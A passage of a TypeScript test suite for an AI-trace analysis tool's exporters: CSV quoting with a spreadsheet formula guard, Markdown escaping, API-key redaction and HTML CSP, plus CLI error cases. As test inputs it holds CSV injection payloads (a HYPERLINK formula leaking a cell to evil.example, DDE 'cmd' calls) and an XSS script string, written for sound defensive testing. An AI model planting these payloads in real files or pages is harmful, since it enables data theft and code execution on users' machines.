// Exports (src/report/export.ts) and `hotmess export`: CSV quoting and the formula guard,
// Markdown that model text cannot reformat, JSON with the traces and without keys, the HTML
// view's CSP, and the command on a simulated benchmark run and on the example trace set.
import { test } from "node:test";
import assert from "node:assert/strict";
import { appendFileSync, copyFileSync, existsSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { analyzeRecords, type Analysis, type ParsedRun, type PromptRecord } from "../src/core";
import { analyzeRuns } from "../src/cli/run";
import { main, type Io } from "../src/cli/main";
import { CSV_HEADER, exportCsv, exportHtml, exportJson, exportMarkdown, guardFormula, mdCode, redactSecrets, tracesFromRecords, tracesFromRuns, type ExportDocument } from "../src/report/export";
import { reportCsp } from "../src/report/html";
import { Capture } from "./support/capture";

const root = join(__dirname, "..");
const EXAMPLE = join(root, "examples", "word-problems.jsonl");

// ---- helpers ----------------------------------------------------------------------------------

/** An RFC 4180 reader (quoted fields, doubled quotes, CRLF records), to read back what was written. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
      } else if (c === '"') {
        quoted = false;
        i++;
      } else {
        field += c;
        i++;
      }
    } else if (c === '"') {
      assert.equal(field, "", "a quote only opens a field");
      quoted = true;
      i++;
    } else if (c === ",") {
      row.push(field);
      field = "";
      i++;
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
      i += 2;
    } else {
      assert.notEqual(c, "\n", "a bare LF only inside a quoted field");
      assert.notEqual(c, "\r", "a bare CR only inside a quoted field");
      field += c;
      i++;
    }
  }
  assert.equal(quoted, false, "no quoted field left open");
  assert.equal(field, "", "the file ends with CRLF");
  assert.equal(row.length, 0);
  return rows;
}

/**
 * The Markdown with its code spans taken out (CommonMark: a run of n backticks opens a span that
 * the next run of exactly n backticks closes), and the spans' contents.
 */
function splitCodeSpans(md: string): { outside: string; spans: string[] } {
  let outside = "";
  const spans: string[] = [];
  let i = 0;
  while (i < md.length) {
    if (md[i] !== "`") {
      outside += md[i];
      i++;
      continue;
    }
    let n = 0;
    while (md[i + n] === "`") n++;
    const fence = "`".repeat(n);
    let j = i + n;
    let close = -1;
    while (j < md.length) {
      const k = md.indexOf(fence, j);
      if (k < 0) break;
      if (md[k + n] !== "`" && md[k - 1] !== "`") {
        close = k;
        break;
      }
      j = k + 1;
      while (md[j] === "`") j++;
    }
    if (close < 0) {
      outside += fence;
      i += n;
      continue;
    }
    spans.push(md.slice(i + n, close));
    outside += "CODE";
    i = close + n;
  }
  return { outside, spans };
}

/** Cells of a GFM table row: split at pipes that are not escaped. */
function cells(line: string): string[] {
  return line
    .replace(/^\|/, "")
    .replace(/\|$/, "")
    .split(/(?<!\\)\|/);
}


async function cli(args: string[], env: NodeJS.ProcessEnv = {}) {
  const stdout = new Capture();
  const stderr = new Capture();
  const io: Io = { stdout, stderr, env };
  const code = await main(args, io);
  return { code, out: stdout.text, err: stderr.text };
}

const dir = mkdtempSync(join(tmpdir(), "hotmess-export-"));

function exampleAnalysis(): { analysis: Analysis; records: PromptRecord[] } {
  const records = readFileSync(EXAMPLE, "utf8")
    .split("\n")
    .filter((l) => l.trim() !== "")
    .map((l) => JSON.parse(l) as PromptRecord);
  return { analysis: analyzeRecords(records, { resamples: 50 }), records };
}

const NASTY = [
  'Total: 3, then "quoted", then more',
  "line one\r\nline two\nline three",
  '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
  "+1+2",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\tTabbed=1+1",
  "\rCR first",
];

// ---- CSV ----------------------------------------------------------------------------------------

test("CSV: a header, one row per prompt × run × column, RFC 4180 quoting, formulas guarded", () => {
  const { analysis } = exampleAnalysis();
  // put the nasty texts into real steps (steps of a segmented trace hold no newline; an export
  // must still be right if one does)
  const p = analysis.prompts[0]!;
  const placed: string[] = [];
  for (const [i, text] of NASTY.entries()) {
    const run = p.runs[i % p.runs.length]!;
    const step = run.steps[Math.floor(i / p.runs.length)]!;
    step.text = text;
    placed.push(text);
  }
  p.runs[1]!.answerKey = "-3"; // a plain negative number is not a formula
  p.runs[2]!.answerKey = "=1+1";
  const csv = exportCsv(analysis);
  assert.ok(csv.endsWith("\r\n"));
  const rows = parseCsv(csv);
  assert.deepEqual(rows[0], [...CSV_HEADER]);
  assert.deepEqual(rows[0], [
    ...["prompt", "run", "column", "step", "group", "divergence", "is_fork_column", "answer_key", "correct", "step_text"],
    ...["k", "pass_hat_k", "pass_hat_k_low", "pass_hat_k_high", "pass_at_k", "pass_at_k_low", "pass_at_k_high"],
    ...["estimate", "ci_low", "ci_high", "more_reruns"],
  ]);
  const expected = analysis.prompts.reduce((s, x) => s + x.runs.length * x.columns.length, 0);
  const stepRows = rows.slice(1).filter((r) => r[10] === "");
  assert.equal(stepRows.length, expected, "step rows = Σ runs × columns");
  for (const r of rows) assert.equal(r.length, CSV_HEADER.length, "every row has every field");

  // the nasty texts read back exactly, with the guard's ' where a spreadsheet would see a formula
  const stepTexts = stepRows.map((r) => r[9]!);
  for (const text of placed) {
    const want = /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
    assert.ok(stepTexts.includes(want), `step text ${JSON.stringify(text)} reads back as ${JSON.stringify(want)}`);
  }
  for (const field of rows.flat()) assert.doesNotMatch(field, /^[=+@\t\r]/, `no field starts a formula: ${JSON.stringify(field)}`);
  for (const field of stepRows.flatMap((r) => [r[0]!, r[7]!, r[9]!])) assert.ok(!/^-/.test(field) || field === "-3", `only plain numbers start with -: ${field}`);
  assert.ok(rows.some((r) => r[7] === "-3"));
  assert.ok(rows.some((r) => r[7] === "'=1+1"));
  assert.match(csv, /"=HYPERLINK|"'=HYPERLINK\(""http:\/\/evil\.example\/\?leak=""&A1,""click me""\)"/);

  // the cells: gaps have an empty step, group and text; the fork column is flagged
  for (const pa of analysis.prompts) {
    const mine = stepRows.filter((r) => r[0] === pa.id);
    assert.equal(mine.length, pa.runs.length * pa.columns.length);
    for (const r of mine) {
      const cell = pa.columns[Number(r[2])]!.cells[Number(r[1])]!;
      assert.equal(r[3], cell.step === null ? "" : String(cell.step));
      assert.equal(r[4], cell.group === null ? "" : String(cell.group));
      assert.equal(Number(r[5]), cell.divergence);
      assert.equal(r[6], String(pa.forkColumn === Number(r[2])));
      assert.ok(r[8] === "true" || r[8] === "false");
      if (cell.step === null) assert.equal(r[9], "");
    }
  }
});

// ---- pass^k and pass@k (METRICS.md §7b) ----------------------------------------------------

/** Three prompts: 5 of 8 correct (flags), 3 of 3 (reference), and one without a target. */
function reliabilityAnalysis(): Analysis {
  const flags = [true, false, true, true, false, true, false, true];
  return analyzeRecords(
    [
      { id: "five-of-eight", samples: flags.map((ok, i) => ({ text: `step ${i}\nanswer`, answer: ok ? "24" : String(i), correct: ok })) },
      { id: "all-three", reference: "24", samples: [0, 1, 2].map((i) => ({ text: `step ${i}`, answer: "24" })) },
      { id: "no-target", samples: [0, 1].map((i) => ({ text: `step ${i}`, answer: String(i) })) },
    ],
    { resamples: 0 },
  );
}

test("CSV: a pass^k / pass@k row for each k of each prompt with a target, then of the pool (empty prompt), exact numbers", () => {
  const analysis = reliabilityAnalysis();
  const rows = parseCsv(exportCsv(analysis));
  const header = rows[0]!;
  const at = (name: string) => header.indexOf(name);
  for (const r of rows) assert.equal(r.length, header.length, "every row has every field");
  const reliability = rows.slice(1).filter((r) => r[at("k")] !== "");
  const steps = rows.slice(1).filter((r) => r[at("k")] === "");
  assert.equal(steps.length, analysis.prompts.reduce((s, p) => s + p.n * p.columns.length, 0));
  for (const r of steps) assert.deepEqual(r.slice(at("k"), at("estimate")), ["", "", "", "", "", "", ""], "step rows leave the pass^k fields empty");
  const check = (r: string[], k: number, f: { passHatK: number[]; passAtK: number[]; passHatKCi95: [number, number][]; passAtKCi95: [number, number][] }) => {
    assert.equal(r[at("k")], String(k));
    assert.deepEqual(
      [r[at("pass_hat_k")], r[at("pass_hat_k_low")], r[at("pass_hat_k_high")], r[at("pass_at_k")], r[at("pass_at_k_low")], r[at("pass_at_k_high")]].map(Number),
      [f.passHatK[k - 1], f.passHatKCi95[k - 1]![0], f.passHatKCi95[k - 1]![1], f.passAtK[k - 1], f.passAtKCi95[k - 1]![0], f.passAtKCi95[k - 1]![1]],
      `k = ${k}`,
    );
    assert.deepEqual(r.slice(1, at("k")), new Array(at("k") - 1).fill(""), "no run, column or step on a pass^k row");
  };
  for (const p of analysis.prompts) {
    const mine = reliability.filter((r) => r[0] === p.id);
    if (!p.passHatK) {
      assert.equal(mine.length, 0, `${p.id}: no target, no pass^k rows`);
      continue;
    }
    assert.equal(mine.length, p.n, `${p.id}: k = 1..n`);
    mine.forEach((r, i) => check(r, i + 1, p as Parameters<typeof check>[2]));
  }
  const pooled = reliability.filter((r) => r[0] === "");
  const P = analysis.pooled;
  assert.equal(pooled.length, 8, "pooled: k = 1..8 (the largest n)");
  pooled.forEach((r, i) => check(r, i + 1, P as Parameters<typeof check>[2]));
  assert.equal(Number(pooled[1]![at("pass_hat_k")]), ((5 * 4) / (8 * 7) + 1) / 2, "pooled pass^2: the mean of C(5,2)/C(8,2) and 1");
});

test("Markdown: a pass^k / pass@k table with intervals per prompt with a target (k = 1, 2, 3, 5 … n) and pooled", () => {
  const analysis = reliabilityAnalysis();
  const md = exportMarkdown(analysis);
  const section = (title: string) => md.split(/^## /m).find((s) => s.startsWith(title)) ?? "";
  const ci = (x: number, c: [number, number]) => `${x.toFixed(3)} [${c[0].toFixed(3)}–${c[1].toFixed(3)}]`;
  const five = section("`five-of-eight`");
  const p = analysis.prompts[0]!;
  assert.match(five, /\| k \| pass\^k \[95% CI\] \| pass@k \[95% CI\] \|/);
  const rows = five.split("\n").filter((l) => /^\| \d+ \|/.test(l));
  assert.deepEqual(
    rows.map((l) => cells(l).map((c) => c.trim())),
    [1, 2, 3, 5, 8].map((k) => [String(k), ci(p.passHatK![k - 1]!, p.passHatKCi95![k - 1]!), ci(p.passAtK![k - 1]!, p.passAtKCi95![k - 1]!)]),
  );
  assert.doesNotMatch(section("`no-target`"), /pass\^k/, "no target: no pass^k table");
  const pooled = section("Pooled");
  assert.match(pooled, /\| k \| prompts \| pass\^k \[95% CI\] \| pass@k \[95% CI\] \|/);
  const P = analysis.pooled;
  const prow = pooled.split("\n").filter((l) => /^\| \d+ \| \d+ \|/.test(l));
  assert.deepEqual(
    prow.map((l) => cells(l).map((c) => c.trim())),
    [1, 2, 3, 5, 8].map((k) => [String(k), String(P.passKPrompts![k - 1]), ci(P.passHatK![k - 1]!, P.passHatKCi95![k - 1]!), ci(P.passAtK![k - 1]!, P.passAtKCi95![k - 1]!)]),
  );
});

test("guardFormula and mdCode on their own", () => {
  assert.equal(guardFormula("=1+1"), "'=1+1");
  assert.equal(guardFormula("@A1"), "'@A1");
  assert.equal(guardFormula("\t=1"), "'\t=1");
  assert.equal(guardFormula("-1.5"), "-1.5");
  assert.equal(guardFormula("+3e5"), "+3e5");
  assert.equal(guardFormula("-"), "'-");
  assert.equal(guardFormula("x = 1"), "x = 1");
  assert.equal(mdCode("a `b` c"), "``a `b` c``");
  assert.equal(mdCode("`x`"), "`` `x` ``");
  assert.equal(mdCode("a | b", { table: true }), "`a \\| b`");
  assert.equal(mdCode("  two\n\nlines  "), "`two lines`");
  assert.equal(mdCode("abcdefghij", { max: 5 }), "`abcd…`");
  assert.equal(mdCode(" \n "), "*(empty)*");
  assert.equal(mdCode("evil\u202eright-to-left\u001b[31m"), "`evilright-to-left[31m`");
});

// ---- Markdown ---------------------------------------------------------------------------------

test("Markdown: a summary whose model text can break no table and make no link, HTML or emphasis", () => {
  const { analysis } = exampleAnalysis();
  const p = analysis.prompts.find((x) => x.forkColumn !== null)!;
  assert.ok(p, "the example has a prompt with a fork");
  const evil = "| broken | table <script>alert(1)</script> [link](http://x) **bold** _it_ @octocat #1 ``tick`` <http://y> www.z.com &lt;b&gt;";
  // every step at the fork, the answers and the id carry it
  for (const cell of p.columns[p.forkColumn!]!.cells) if (cell.step !== null) p.runs[cell.run]!.steps[cell.step]!.text = `${evil} ${cell.group}`;
  for (const a of p.answers) a.key = `${evil} answer ${a.count}`;
  p.id = `id ${evil}`;
  p.model = `model ${evil}`;

  const md = exportMarkdown(analysis, { maxStepText: 400 });
  assert.match(md, /^# Hot Mess Inspector: \d+ prompts\n/);
  // (our own tags fold the example traces; nothing else may be HTML)
  const { outside: withTags, spans } = splitCodeSpans(md);
  const outside = withTags.replace(/<\/?(details|summary)>/g, "");
  // outside the code spans: nothing of the model text
  assert.doesNotMatch(outside, /<|\[link\]|\]\(|http|www\.|@octocat|#1\b|\*\*bold|_it_|&lt;/, outside);
  // inside: all of it, as text
  assert.ok(spans.some((s) => s.includes("<script>alert(1)</script> [link](http://x) **bold**")));
  assert.ok(spans.some((s) => s.includes("``tick``")));

  // tables keep their shape: every row has as many cells as its header
  const lines = md.split("\n");
  let width = -1;
  for (const line of lines) {
    if (!line.startsWith("|")) {
      width = -1;
      continue;
    }
    const n = cells(line).length;
    if (width < 0) width = n;
    else assert.equal(n, width, `table row keeps its ${width} cells: ${line}`);
  }
  assert.ok(lines.filter((l) => l.startsWith("|")).some((l) => l.includes("\\| broken")), "pipes in a table cell are escaped");

  // the summary: per prompt its line, answers, fork; then pooled and the length split
  assert.match(md, /\*\*n = \d+\*\* · model `+/);
  assert.match(md, /\*\*incoherence \d\.\d{3} \[\d\.\d{3}–\d\.\d{3}\]\*\* · bias² \d\.\d{3} · variance \d\.\d{3} · error \d\.\d{3}/);
  assert.match(md, /\| answer \| runs \| share \|/);
  assert.match(md, /\*\*Fork\*\* at column \d+ of \d+/);
  assert.match(md, /## Pooled over \d+ of \d+ prompts with a target/);
  assert.match(md, /\| brier \| /);
  assert.match(md, /## Length split/);
  // an example trace per class, folded, in a fence its text cannot close
  assert.match(md, /<details><summary>run #\d+: `+[^\n]*` \(\d+ runs?\)<\/summary>\n\n`{3,}text\n/);
});

test("Markdown: top 5 answers and …, cut step texts, disagreement without a target, optimizer steps", () => {
  const samples = ["1", "2", "3", "4", "5", "6", "7", "7"].map((a) => ({ text: `Step one is the same.\nThen I think ${"very ".repeat(40)}hard about ${a}.\nAnswer: ${a}`, answer: a }));
  const a = analyzeRecords([{ id: "no-target", samples }], { resamples: 0 });
  const md = exportMarkdown(a, { maxStepText: 40 });
  assert.match(md, /no target: \*\*disagreement 0\.\d{3}\*\*/);
  assert.match(md, /\| … 2 more classes \| 2 \| 25% \|/);
  assert.match(md, /\| `7` \| 2 \| 25% \|/);
  assert.match(md, /No prompt has a reference answer/);
  // (an example trace, a fenced block, is a whole trace: cut to 40 lines, not to a step's length)
  for (const span of splitCodeSpans(md).spans) assert.ok(Array.from(span).length <= 40 || span.startsWith("no-target") || span.startsWith("text\n"), `cut: ${span}`);
});

// ---- JSON and redaction -----------------------------------------------------------------------

const KEY = "sk-ant-api03-xxxxxxxxxxxxxxxxxxxx";
const ENV_KEY = "my-local-server-secret-0123456789";

function runWithKeys(): ParsedRun {
  const header = {
    type: "header" as const,
    schema: "hotmess.run/1" as const,
    id: "leaky",
    createdAt: "2026-01-01T00:00:00.000Z",
    tool: { name: "hotmess", version: "0" },
    provider: "anthropic",
    model: "claude-test",
    prompt: `What is 2 + 2? (my key is ${KEY})`,
    reference: 4,
    parameters: { n: 3, maxTokens: 100, thinking: { type: "none" }, concurrency: 1, idleTimeoutMs: 1000 },
  };
  const sample = (index: number, text: string, thinking = "") => ({
    type: "sample" as const,
    index,
    text,
    thinking,
    redactedThinking: 0,
    usage: { inputTokens: 1, outputTokens: 1 },
    costUsd: null,
    latencyMs: 1,
    retries: 0,
    truncated: false,
    stopReason: "end_turn",
    finishedAt: "2026-01-01T00:00:01.000Z",
  });
  return {
    header,
    samples: [
      sample(2, `The header said ${KEY}.\n2 + 2 = 4\nAnswer: 4`),
      sample(0, "2 + 2 = 4\nAnswer: 4", `Let me use Authorization: Bearer abcdefghijklmnop0123456789 and ${ENV_KEY}.\nThen 2 + 2 = 4.`),
      sample(1, `2 + 2 = 5\nsk-proj-ABCDEFGHIJKLMNOPQRSTUVWXYZ012345\nAnswer: ${KEY}`),
    ],
    failures: [],
    end: null,
    warnings: [],
    goodLength: 0,
    missingNewline: false,
  };
}

test("redactSecrets: provided secrets and things that look like keys become [redacted]", () => {
  assert.equal(redactSecrets(`key ${KEY}.`), "key [redacted].");
  assert.equal(redactSecrets("sk-proj-ABCDEFGHIJKLMNOPQRSTUVWXYZ"), "[redacted]");
  assert.equal(redactSecrets("Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.abc"), "Authorization: Bearer [redacted]");
  assert.equal(redactSecrets(`use ${ENV_KEY}!`, [ENV_KEY]), "use [redacted]!");
  // ordinary text stays: short sk- words, "task-ant-…", a bearer of short words, short "secrets"
  assert.equal(redactSecrets("sk-learn and risk-free, task-antelope, Bearer bonds"), "sk-learn and risk-free, task-antelope, Bearer bonds");
  assert.equal(redactSecrets("x = 1 and abc", ["abc", "1", ""]), "x = 1 and abc");
});

test("JSON: hotmess.analysis/1 with the raw traces, and no key anywhere", () => {
  const runs = [runWithKeys()];
  const analysis = analyzeRuns(runs);
  const text = exportJson(analysis, tracesFromRuns(runs), { secrets: [ENV_KEY], createdAt: "2026-02-03T04:05:06.000Z", tool: { name: "hotmess", version: "9.9.9" } });
  for (const leak of [KEY, "sk-ant-", ENV_KEY, "abcdefghijklmnop0123456789", "sk-proj-"]) assert.ok(!text.includes(leak), `${leak} is not in the export`);
  assert.match(text, /\[redacted\]/);
  const doc = JSON.parse(text) as ExportDocument;
  assert.equal(doc.schema, "hotmess.analysis/1");
  assert.deepEqual(doc.export, { schema: "hotmess.export/1", createdAt: "2026-02-03T04:05:06.000Z", tool: { name: "hotmess", version: "9.9.9" } });
  assert.equal(doc.prompts.length, 1);
  assert.equal(doc.traces.length, 1);
  assert.equal(doc.traces[0]!.prompt, "leaky");
  assert.deepEqual(
    doc.traces[0]!.runs.map((r) => r.index),
    doc.prompts[0]!.runs.map((r) => r.index),
  );
  // the traces are the run file's samples, in the analysis's run order: by recorded index (the
  // file lists them as they finished: 2, 0, 1)
  assert.deepEqual(doc.traces[0]!.runs.map((r) => r.index), [0, 1, 2]);
  assert.equal(doc.traces[0]!.runs[2]!.text, "The header said [redacted].\n2 + 2 = 4\nAnswer: 4");
  assert.equal(doc.traces[0]!.runs[2]!.thinking, null);
  assert.equal(doc.traces[0]!.runs[0]!.thinking, "Let me use Authorization: Bearer [redacted] and [redacted].\nThen 2 + 2 = 4.");
  assert.equal(doc.prompts[0]!.prompt, "What is 2 + 2? (my key is [redacted])");
  // the analysis itself is not changed by the export
  assert.ok(analysis.prompts[0]!.prompt!.includes(KEY));

  // a trace set's records as traces
  const records: PromptRecord[] = [{ id: "t", samples: [{ text: "a" }, { thinking: "b" }, { text: "c", thinking: "d" }] }];
  assert.deepEqual(tracesFromRecords(records), [
    {
      prompt: "t",
      runs: [
        { index: 0, text: "a", thinking: null },
        { index: 1, text: null, thinking: "b" },
        { index: 2, text: "c", thinking: "d" },
      ],
    },
  ]);
});

test("HTML: the comparison view with its CSP, redacted", () => {
  const analysis = analyzeRuns([runWithKeys()]);
  const nonce = "dGVzdC1ub25jZQ==";
  const html = exportHtml(analysis, { webviewJs: "console.log(1)", css: "body{}", nonce, secrets: [ENV_KEY] });
  assert.ok(html.includes(`<meta http-equiv="Content-Security-Policy" content="${reportCsp(nonce)}">`));
  assert.ok(!html.includes(KEY) && !html.includes("sk-ant-"));
  assert.match(html, /\[redacted\]/);
  assert.match(html, /<script type="application\/json" id="hotmess-data"/);
});

// ---- the command ----------------------------------------------------------------------------

const benchDir = join(dir, "bench");
let benchRuns: string[] = [];
async function bench(): Promise<string[]> {
  if (benchRuns.length > 0) return benchRuns;
  const r = await cli(["bench", "optimizer", "-n", "4", "--difficulty", "easy,medium", "--sim-speed", "0", "--out", benchDir]);
  assert.equal(r.code, 0, r.err);
  // the easy run first
  benchRuns = readdirSync(benchDir)
    .filter((f) => f.endsWith(".jsonl"))
    .map((f) => join(benchDir, f))
    .sort((a, b) => Number(readFileSync(b, "utf8").includes('"id":"optimizer-easy-seed1"')) - Number(readFileSync(a, "utf8").includes('"id":"optimizer-easy-seed1"')));
  assert.equal(benchRuns.length, 2);
  return benchRuns;
}

test("hotmess export writes each format from a simulated run file", async () => {
  const [runFile] = await bench();
  const checks: Record<string, (text: string) => void> = {
    json: (t) => {
      const doc = JSON.parse(t) as ExportDocument;
      assert.equal(doc.schema, "hotmess.analysis/1");
      assert.equal(doc.export.schema, "hotmess.export/1");
      assert.equal(doc.traces[0]!.runs.length, 4);
      assert.ok(doc.traces[0]!.runs.every((r) => (r.thinking ?? r.text ?? "").includes("x_1")));
      assert.ok(doc.prompts[0]!.optimizer, "the per-step analysis is in");
    },
    csv: (t) => {
      const rows = parseCsv(t);
      assert.deepEqual(rows[0], [...CSV_HEADER]);
      assert.ok(rows.length > 4);
    },
    md: (t) => {
      assert.match(t, /^# Hot Mess Inspector: `optimizer-easy-seed1`/);
      assert.match(t, /\*\*Per step\*\* \(optimizer emulation, easy: d = 2/);
      assert.match(t, /\| k \| reached \| bias² \| variance \| error \| incoherence \[95% CI\] \|/);
      assert.match(t, /\| 8 \| \d\/4 \|/);
      assert.match(t, /model `simulated-reasoner`/);
    },
    html: (t) => {
      assert.match(t, /^<!DOCTYPE html>/);
      assert.match(t, /Content-Security-Policy/);
      assert.match(t, /optimizer-easy-seed1/);
    },
  };
  for (const [format, check] of Object.entries(checks)) {
    const out = join(dir, `run-export.${format}`);
    const r = await cli(["export", runFile!, "--format", format, "--out", out], { ANTHROPIC_API_KEY: ENV_KEY });
    assert.equal(r.code, 0, r.err);
    assert.equal(r.out, "");
    assert.match(r.err, new RegExp(`^hotmess: wrote .*run-export\\.${format} \\(${format}, 1 prompt`));
    check(readFileSync(out, "utf8"));
    // the same to standard output
    const s = await cli(["export", runFile!, "--format", format, "--out", "-"]);
    assert.equal(s.code, 0, s.err);
    assert.equal(s.err, "");
    check(s.out);
  }
  assert.deepEqual(
    readdirSync(dir).filter((f) => f.endsWith(".tmp")),
    [],
    "no temporary file left behind",
  );
});

test("hotmess export: several run files make one analysis, one prompt each; format from --out; default OUT", async () => {
  const runs = await bench();
  const out = join(dir, "both.md");
  const r = await cli(["export", ...runs, "--out", out]);
  assert.equal(r.code, 0, r.err);
  const md = readFileSync(out, "utf8");
  assert.match(md, /^# Hot Mess Inspector: 2 prompts/);
  assert.match(md, /## `optimizer-easy-seed1`/);
  assert.match(md, /## `optimizer-medium-seed1`/);
  const j = await cli(["export", ...runs, "--format", "json", "--out", "-"]);
  const doc = JSON.parse(j.out) as ExportDocument;
  assert.deepEqual(
    doc.traces.map((t) => t.prompt),
    doc.prompts.map((p) => p.id),
  );
  // default OUT: beside the first input, with the format's extension
  const copy = join(dir, "copy-run.jsonl");
  copyFileSync(runs[0]!, copy);
  const d = await cli(["export", copy, "--format", "csv"]);
  assert.equal(d.code, 0, d.err);
  assert.ok(existsSync(join(dir, "copy-run.csv")));
});

test("hotmess export from the example trace set, every format", async () => {
  const { analysis } = exampleAnalysis();
  for (const format of ["json", "csv", "md", "html"]) {
    const out = join(dir, `words.${format}`);
    const r = await cli(["export", EXAMPLE, "--format", format, "--out", out]);
    assert.equal(r.code, 0, r.err);
    const text = readFileSync(out, "utf8");
    if (format === "json") {
      const doc = JSON.parse(text) as ExportDocument;
      assert.deepEqual(
        doc.prompts.map((p) => p.id),
        analysis.prompts.map((p) => p.id),
      );
      assert.deepEqual(
        doc.traces.map((t) => t.runs.length),
        analysis.prompts.map((p) => p.n),
      );
      const first = JSON.parse(readFileSync(EXAMPLE, "utf8").split("\n")[0]!) as PromptRecord;
      assert.equal(doc.traces[0]!.runs[0]!.text, first.samples[0]!.text);
    }
    if (format === "csv") {
      // a row per prompt × run × column, then a pass^k row per k of each prompt with a target and of the pool
      const reliability = analysis.prompts.reduce((s, p) => s + (p.passHatK?.length ?? 0), 0) + (analysis.pooled.passHatK?.length ?? 0);
      assert.equal(parseCsv(text).length - 1, analysis.prompts.reduce((s, p) => s + p.n * p.columns.length, 0) + reliability);
    }
    if (format === "md") assert.match(text, new RegExp(`^# Hot Mess Inspector: ${analysis.prompts.length} prompts`));
    if (format === "html") assert.match(text, /Content-Security-Policy/);
  }
});

test("hotmess export: keys in the environment and in traces never reach the file", async () => {
  const runs = [runWithKeys()];
  const lines = [JSON.stringify(runs[0]!.header), ...runs[0]!.samples.map((s) => JSON.stringify(s))];
  const file = join(dir, "leaky.jsonl");
  writeFileSync(file, lines.join("\n") + "\n");
  for (const format of ["json", "csv", "md", "html"]) {
    const r = await cli(["export", file, "--format", format, "--out", "-"], { ANTHROPIC_API_KEY: ENV_KEY, PATH: "/usr/bin" });
    assert.equal(r.code, 0, r.err);
    for (const leak of [KEY, "sk-ant-", ENV_KEY]) assert.ok(!r.out.includes(leak), `${format}: ${leak} is not exported`);
  }
});

test("hotmess export: one-line errors (exit 1) and skipped lines (exit 2)", async () => {
  const runs = await bench();
  const cases: [string[], RegExp][] = [
    [["export"], /^hotmess: export needs a trace set or run files/],
    [["export", EXAMPLE], /^hotmess: export needs --format json\|csv\|md\|html/],
    [["export", EXAMPLE, "--format", "pdf"], /--format is json, csv, md or html, not "pdf"/],
    [["export", join(dir, "nope.jsonl"), "--format", "md"], /nope\.jsonl: no such file\n$/],
    [["export", dir, "--format", "md"], /is a directory/],
    [["export", EXAMPLE, runs[0]!, "--format", "md"], /word-problems\.jsonl is not a run file: several files must all be run files/],
    [["export", EXAMPLE, "--format", "md", "--out", join(dir, "no", "such", "dir.md")], /^hotmess: cannot write .*dir\.md: no such directory/],
    [["export", runs[0]!, "--format", "md", "--out", runs[0]!], /is one of the inputs/],
    [["export", EXAMPLE, "--format", "md", "--frob"], /unknown option --frob/],
  ];
  for (const [args, re] of cases) {
    const r = await cli(args);
    assert.equal(r.code, 1, args.join(" "));
    assert.match(r.err, re);
    assert.equal(r.err.trim().split("\n").length, 1, `one line: ${r.err}`);
  }
  // a run file cut short by a crash: the torn line is named, the rest exported, exit 2
  const torn = join(dir, "torn.jsonl");
  copyFileSync(runs[0]!, torn);
  appendFileSync(torn, '{"type":"sample","index":9,"te');
  const r = await cli(["export", torn, "--format", "csv", "--out", join(dir, "torn.csv")]);
  assert.equal(r.code, 2, r.err);
  assert.match(r.err, /torn\.jsonl: line \d+: the last line is incomplete/);
  assert.ok(existsSync(join(dir, "torn.csv")));
  // a trace set with a bad line: the same
  const bad = join(dir, "bad.jsonl");
  writeFileSync(bad, readFileSync(EXAMPLE, "utf8").split("\n")[0] + "\n{not json\n");
  const b = await cli(["export", bad, "--format", "json", "--out", "-"]);
  assert.equal(b.code, 2);
  assert.match(b.err, /bad\.jsonl: line 2: not valid JSON/);
  assert.equal((JSON.parse(b.out) as ExportDocument).traces.length, 1);
});

/** A run file written by hand: n samples asked, these finished, these failed with a 500, and how it ended. */
function runFile(name: string, o: { n: number; finished: number[]; failed: number[]; status: "partial" | "failed" }): string {
  const header = { type: "header", schema: "hotmess.run/1", id: name, createdAt: "2026-12-04T10:00:00.000Z", tool: { name: "hotmess", version: "0" }, provider: "openai", model: "m", prompt: "p", reference: 18, parameters: { n: o.n, maxTokens: 100, thinking: { type: "none" }, concurrency: 4, idleTimeoutMs: 1000 } };
  const sample = (index: number) => ({ type: "sample", index, text: `Answer: ${index % 2 ? 18 : 20}`, thinking: "", redactedThinking: 0, usage: { inputTokens: 1, outputTokens: 1 }, costUsd: null, latencyMs: 1, retries: 0, truncated: false, stopReason: "stop", finishedAt: "" });
  const failure = (index: number) => ({ type: "failure", index, kind: "server", message: "OpenAI answered 500: boom", attempts: 6, status: 500, url: "https://api.openai.com/v1/chat/completions", retryable: true });
  const file = join(dir, `${name}.jsonl`);
  writeFileSync(file, [header, ...o.finished.map(sample), ...o.failed.map(failure), { type: "end", status: o.status, finishedAt: "" }].map((l) => JSON.stringify(l)).join("\n") + "\n");
  return file;
}

test("hotmess export of a failed or partial run says what analyze says: the run's own sentence (exit 1 with nothing finished, exit 2 for a partial run)", async () => {
  const failed = runFile("export-failed", { n: 2, finished: [], failed: [0, 1], status: "failed" });
  const f = await cli(["export", failed, "--format", "md", "--out", "-"]);
  const a = await cli(["analyze", failed]);
  assert.equal(f.code, 1, f.err);
  assert.equal(a.code, 1, a.err);
  assert.equal(f.err, a.err);
  assert.match(f.err, /^hotmess: the run failed: 0 of 2 samples finished, 2 failed — OpenAI answered 500: boom .*; to try again: hotmess run --resume \S+export-failed\.jsonl\n$/);

  const partial = runFile("export-partial", { n: 8, finished: [0, 1, 2, 4, 6], failed: [3, 5, 7], status: "partial" });
  const out = join(dir, "export-partial.md");
  const p = await cli(["export", partial, "--format", "md", "--out", out]);
  assert.equal(p.code, 2, p.err);
  assert.match(p.err, new RegExp(`the run is partial: 5 of 8 samples finished, 3 failed — OpenAI answered 500: boom .*; to finish it: hotmess run --resume ${partial.replace(/[.]/g, "\\.")}\n`));
  assert.match(readFileSync(out, "utf8"), /^# Hot Mess Inspector: `export-partial`/, "what finished is exported");
  // among several run files, a failed one is left out with its sentence; the rest is exported (exit 2)
  const both = await cli(["export", partial, failed, "--format", "json", "--out", "-"]);
  assert.equal(both.code, 2, both.err);
  assert.match(both.err, /export-failed\.jsonl: the run failed: 0 of 2 samples finished.*; left out\n/);
